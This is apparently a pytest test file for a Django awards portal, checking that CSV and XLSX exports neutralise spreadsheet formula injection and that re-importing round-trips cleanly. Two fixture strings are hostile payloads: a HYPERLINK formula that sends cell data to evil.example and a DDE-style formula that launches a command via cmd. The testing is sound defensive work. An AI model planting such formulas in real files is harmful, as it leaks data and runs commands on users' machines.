"""Formulas in CSV: a cell a spreadsheet would run (“=HYPERLINK(…)”, “+SUM(…)”) is written with a quote before it
by every CSV export (the page's download, `export_inventory`, the back-office's Export), the rule of the XLSX
writer; the importer removes that quote, so export then import changes nothing."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from awards.models import AwardResult
from portal import imports
from portal.models import Agency, Project
from tests import factories

RESULTS = "/en/awards/results/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
SUM = "+SUM(1+1)*cmd|' /C calc'!A0"


def csv_rows(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def formulas(agency_a):
    """A published project titled with a formula, and an imported agency named with another."""
    edition = factories.AwardEditionFactory(year=2024)
    project = factories.ProjectFactory(agency=agency_a, slug="hyperlink", title_en=HYPERLINK, published=True)
    summing = factories.AgencyFactory(slug="summing", name_en=SUM, country="FR")
    return {
        "titled": factories.award_result(edition, agency_a, "C4", "winner", project=project),
        "named": factories.award_result(edition, summing, "C7-E-government", "finalist"),
    }


def _cells(rows: list[list[str]]) -> dict[str, list[str]]:
    header, *lines = rows
    return {name: [line[i] for line in lines] for i, name in enumerate(header)}


def test_the_results_download_quotes_formulas(client, formulas):
    response = client.get(f"{RESULTS}?format=csv")
    assert response.status_code == 200
    cells = _cells(csv_rows(response.content))
    assert "'" + HYPERLINK in cells["project"]
    assert "'" + SUM in cells["agency"]
    # No cell of the file starts as a formula.
    for column in cells.values():
        assert not any(cell.startswith(imports.FORMULA_START) for cell in column)


def test_the_command_quotes_formulas_and_its_file_imports_unchanged(tmp_path, formulas):
    target = tmp_path / "results.csv"
    call_command("export_inventory", "award-results", "--output", str(target))
    cells = _cells(csv_rows(target.read_text(encoding="utf-8")))
    assert "'" + HYPERLINK in cells["project"]
    assert "'" + SUM in cells["agency"]

    before = (AwardResult.objects.count(), Agency.objects.count(), Project.objects.count())
    out = io.StringIO()
    call_command("import_inventory", "award-results", str(target), stdout=out)
    assert "0 created, 0 updated, 2 unchanged" in out.getvalue(), out.getvalue()
    # The quote was removed: the agency and the project were found by their own names, nothing was added.
    assert (AwardResult.objects.count(), Agency.objects.count(), Project.objects.count()) == before


def test_the_back_office_export_quotes_formulas(admin_client_wg, formulas, tmp_path):
    response = admin_client_wg.post("/admin/awards/awardresult/export/", {"resource": "0", "format": "0"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    target = tmp_path / "results.csv"
    call_command("export_inventory", "award-results", "--output", str(target))
    assert response.content == target.read_bytes()  # the command's file, quotes included
    assert "'" + SUM in _cells(csv_rows(response.content))["agency"]
    # The spreadsheet keeps the text itself, as a text cell that never runs.
    xlsx = admin_client_wg.post("/admin/awards/awardresult/export/", {"resource": "0", "format": "1"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert SUM in [cell.value for cell in sheet["D"]]


@pytest.mark.pure
@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+1", "'plain", "plain", "a=b", "", "'"]
)
def test_quote_then_unquote_gives_the_text_back(text):
    cell = imports.csv_cell(text)
    assert not cell.startswith(imports.FORMULA_START)
    assert imports.unquote_cell(cell) == text


@pytest.mark.pure
def test_numbers_and_dates_are_not_quoted():
    import datetime as dt
    import decimal

    assert imports.csv_cell(-5) == -5
    assert imports.csv_cell(decimal.Decimal("-1.5")) == decimal.Decimal("-1.5")
    assert imports.csv_cell(dt.date(2026, 3, 15)) == dt.date(2026, 3, 15)
    assert imports.csv_cell(None) == ""
